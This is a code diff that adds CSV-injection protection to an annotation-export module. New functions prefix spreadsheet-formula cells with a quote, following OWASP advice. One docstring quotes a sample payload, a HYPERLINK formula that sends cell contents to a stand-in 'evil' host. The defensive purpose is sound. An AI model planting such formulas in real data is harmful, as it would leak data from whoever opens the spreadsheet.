@@ -1,10 +1,11 @@
 """Masks out, as COCO instances with their final label (or as a Label Studio import, see
-:mod:`crowdprop.campaign.labelstudio`)."""
+:mod:`crowdprop.campaign.labelstudio`); answer tables out as CSV safe to open in a spreadsheet."""
 from __future__ import annotations
 
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 
 from ..masks import write_instances
 from ..policy.controller import mask_status
@@ -86,4 +87,33 @@ def export_annotations(run: RunDir, path, status: str = "accepted") -> int:
 def export_accepted(run: RunDir, path) -> int:
     """The accepted masks as COCO instances (:func:`export_annotations`)."""
     return export_annotations(run, path, "accepted")
+
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+"""A text cell starting with one of these is read as a formula by spreadsheet programs
+(OWASP, "CSV Injection")."""
+
+
+def csv_text(df: pd.DataFrame) -> str:
+    """``df`` as CSV text for people and spreadsheets: :func:`csv_safe` cells, text quoted (so a
+    carriage return inside a worker id stays inside its field), numbers bare."""
+    import csv
+
+    return csv_safe(df).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)
+
+
+def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
+    """``df`` with every text cell that a spreadsheet would read as a formula prefixed with a
+    single quote (OWASP's advice against CSV injection): a worker id such as
+    ``=HYPERLINK("http://evil/?"&A1,"x")`` arrives as ``'=HYPERLINK(...)``, shown as text.
+    Numeric columns (mask ids, labels) are left alone, negative numbers included."""
+    out = df.copy()
+    for col in out.columns:
+        if out[col].dtype.kind not in "OSU" and not pd.api.types.is_string_dtype(out[col]):
+            continue
+        vals = out[col].astype(object)
+        risky = vals.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_PREFIXES)).to_numpy(bool)
+        if risky.any():
+            out[col] = vals.where(~risky, "'" + vals[risky].astype(str))
+    return out
 
